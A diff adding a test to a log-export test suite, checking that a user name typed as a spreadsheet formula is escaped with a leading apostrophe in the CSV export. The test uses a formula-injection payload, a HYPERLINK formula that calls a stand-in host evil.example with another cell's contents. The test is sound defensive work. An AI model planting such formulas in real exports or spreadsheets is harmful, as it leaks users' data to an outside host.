@@ -100,6 +100,19 @@ describe('log exports', () => {
     expect(data[0]![0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
   });
 
+  it('writes text that looks like a formula so that spreadsheets show it as text (a user name typed at the login page)', async () => {
+    const typed = '=HYPERLINK("//evil.example/"&C9,"ok")';
+    await t.login(typed, 'whatever').catch(() => undefined);
+    const ticket = await t.call('logs.exportLogin', { format: 'csv', timeZone: 'UTC' }, auditor);
+    const text = fs.readFileSync(await saved(ticket, auditor), 'utf8');
+    const records = parse(text.slice(1), { relax_column_count: true, skip_empty_lines: false }) as string[][];
+    const cells = records.flat();
+    expect(cells).toContain(`'${typed}`);
+    expect(cells).not.toContain(typed);
+    // Ordinary names are unchanged.
+    expect(cells).toContain('auditor1');
+  });
+
   it('a download works once, only for the account that asked, and only with a session', async () => {
     const ticket = await t.call('logs.exportLogin', { format: 'csv' }, auditor);
     expect((await fetch(`${t.http!.url}/${ticket.url}`)).status).toBe(401);
